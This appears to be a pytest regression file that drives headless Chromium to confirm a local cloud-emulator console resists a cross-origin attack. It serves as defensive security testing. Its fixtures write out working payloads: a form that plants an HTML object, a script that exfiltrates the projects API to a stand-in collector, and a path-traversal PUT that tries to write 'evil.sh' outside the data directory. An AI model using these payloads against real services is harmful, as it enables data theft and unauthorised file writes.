"""Issue 21, item 2, end to end in a real headless Chromium: a web page on another loopback port
(any site the user happens to open) attacks `openlookout serve` as the issue describes. A form
POSTs an HTML object into a bucket of the local stack (their names are fixed) and redirects the
browser to it; its script reads the projects and sends item 1's PUT. None of it may work: the
attacker's collector must hear nothing, and nothing may change outside the data dir."""

from __future__ import annotations

import contextlib
import html
import os
import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import boto3
import pytest

from tests.contract.conftest import DUMMY_CREDENTIALS, REGION, LocalServer

pytestmark = [pytest.mark.timeout(300)]

BUCKET = "openlookout-local-consoledatabucket"  # the template's: every local stack has it


class Attacker:
    """Another origin on loopback: serves the attack page and collects whatever reaches it."""

    def __init__(self, pages: dict[str, str]) -> None:
        self.pages = pages
        self.heard: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = attacker.pages.get(self.path.split("?")[0], "").encode()
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                attacker.heard.append(f"{self.path} {self.rfile.read(length).decode(errors='replace')}")
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.httpd.server_port}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def _evil_script(server: LocalServer, collector: str, victim: str) -> str:
    """What the planted page runs on the console's origin: read the API, then item 1's PUT."""
    upload = quote(victim, safe="")
    return f"""<script>
fetch('/2020-11-20/projects').then(r => r.text()).then(t =>
  fetch('{collector}/leak', {{method: 'POST', mode: 'no-cors', body: t}}));
fetch('/{BUCKET}/k?AWSAccessKeyId=x&uploadId={upload}&partNumber=evil.sh', {{method: 'PUT', body: 'pwned'}})
  .then(r => fetch('{collector}/put', {{method: 'POST', mode: 'no-cors', body: String(r.status)}}));
</script>"""


def _form_page(server: LocalServer, script: str) -> str:
    target = f"{server.endpoint_url}/{BUCKET}"
    fields = {
        "key": "evil.html",
        "Content-Type": "text/html",
        "success_action_redirect": f"{target}/evil.html?AWSAccessKeyId=x",
    }
    inputs = "".join(f'<input type="hidden" name="{k}" value="{html.escape(v)}">' for k, v in fields.items())
    return f"""<!doctype html><body>
<form id="f" method="POST" enctype="multipart/form-data" action="{target}?AWSAccessKeyId=x">{inputs}
<textarea name="file">{html.escape(script)}</textarea></form>
<script>document.getElementById('f').submit()</script></body>"""


@pytest.fixture
def chromium() -> Iterator[Any]:
    sync_api = pytest.importorskip("playwright.sync_api")
    executable = shutil.which("chromium") or os.environ.get("CHROMIUM")
    assert executable, "no chromium on PATH: `make install` installs Debian's chromium package"
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable, args=["--no-sandbox"])
        try:
            yield browser.new_context().new_page()
        finally:
            browser.close()


def _outside(server: LocalServer) -> Path:
    folder = server.data_dir.parent / "outside"
    (folder / "victim").mkdir(parents=True, exist_ok=True)
    return folder


def _s3(server: LocalServer) -> Any:
    return boto3.client("s3", endpoint_url=server.endpoint_url, region_name=REGION, **DUMMY_CREDENTIALS)


def test_a_web_page_cannot_plant_and_run_a_page_on_the_consoles_origin(
    server: LocalServer, chromium: Any
) -> None:
    outside = _outside(server)
    uploads = server.data_dir / "s3" / BUCKET / "._S3rver_uploads"
    attacker = Attacker({})
    try:
        script = _evil_script(server, attacker.origin, os.path.relpath(outside / "victim", uploads))
        attacker.pages["/attack.html"] = _form_page(server, script)
        chromium.goto(f"{attacker.origin}/attack.html")
        chromium.wait_for_timeout(4000)  # the form posts, the redirect (if any) loads and runs
        assert attacker.heard == []
        assert sorted(p.name for p in outside.rglob("*")) == ["victim"]
        listed = _s3(server).list_objects_v2(Bucket=BUCKET).get("Contents", [])
        assert [o["Key"] for o in listed] == []
    finally:
        attacker.close()


def test_a_stored_html_object_never_runs_and_the_console_cannot_be_framed(
    server: LocalServer, chromium: Any
) -> None:
    """Even an HTML object the user stored: another page's link to it is refused, and opened
    directly it downloads instead of running; and no page may frame the console."""
    attacker = Attacker({})
    try:
        s3 = _s3(server)
        planted = (
            f"<script>fetch('{attacker.origin}/ran', {{method: 'POST', mode: 'no-cors', body: 'x'}})</script>"
        )
        s3.put_object(Bucket=BUCKET, Key="page.html", Body=planted.encode(), ContentType="text/html")
        url = s3.generate_presigned_url("get_object", Params={"Bucket": BUCKET, "Key": "page.html"})
        attacker.pages["/link.html"] = f'<a id="go" href="{html.escape(url)}">go</a>'
        attacker.pages["/frame.html"] = f'<iframe id="c" src="{server.endpoint_url}/console/"></iframe>'
        chromium.goto(f"{attacker.origin}/link.html")
        chromium.click("#go")
        chromium.wait_for_timeout(1500)
        # Typed or pasted by the user: a download (Playwright's goto raises "Download is starting").
        with chromium.expect_download() as download, contextlib.suppress(Exception):
            chromium.goto(url)
        assert download.value.suggested_filename
        chromium.goto(f"{attacker.origin}/frame.html")
        chromium.wait_for_timeout(1500)
        framed = [f for f in chromium.frames if f != chromium.main_frame]
        assert framed and all(f.locator("#app").count() == 0 for f in framed)
        assert attacker.heard == []
    finally:
        attacker.close()
